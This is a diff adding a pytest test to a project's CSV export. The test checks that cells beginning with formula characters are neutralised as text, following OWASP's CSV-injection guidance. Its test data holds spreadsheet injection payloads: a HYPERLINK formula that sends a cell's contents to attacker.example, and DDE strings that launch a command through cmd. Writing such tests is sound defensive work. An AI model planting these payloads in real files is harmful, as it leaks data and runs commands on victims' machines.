@@ -102,3 +102,38 @@ def test_pack_json(built: Path) -> None:
 )
 def test_due_date_is_the_last_day_allowed(due: str, date: dt.date) -> None:
     assert due_date(due) == date
+
+
+# OWASP, CSV injection: a cell that starts with one of these is a formula to a spreadsheet.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.mark.parametrize(
+    ("action", "owner"),
+    [
+        ('=HYPERLINK("http://attacker.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0"),
+        ("-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("\t=1+1", "\r=1+1"),
+    ],
+)
+def test_csv_cells_are_never_formulas(
+    project: Path, briefs: Callable[..., Run], action: str, owner: str
+) -> None:
+    """Issue 12, class 4: every cell that could start a formula is neutralised (OWASP)."""
+    annotation = project / "seeds" / f"{SEED_ID}.ann.yaml"
+    text = annotation.read_text(encoding="utf-8")
+    old = (
+        "  - action: Upgrade the ASEAN–Korea Free Trade Agreement (AKFTA)\n    owner: ASEAN and ROK"
+    )
+    assert old in text
+    new = f"  - action: {json.dumps(action)}\n    owner: {json.dumps(owner)}"
+    annotation.write_text(text.replace(old, new), encoding="utf-8")
+    run = briefs("build", "--no-pdf", cwd=project)
+    assert run.status == 0, run.stderr
+    raw = (project / "build" / f"{SEED_PACK}.follow-ups.csv").read_bytes().decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(raw, newline="")))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], cells
+    row = next(r for r in rows if r[1].endswith(action))
+    assert row[1] == "'" + action  # kept, visibly, as text
+    assert row[2] == "'" + owner
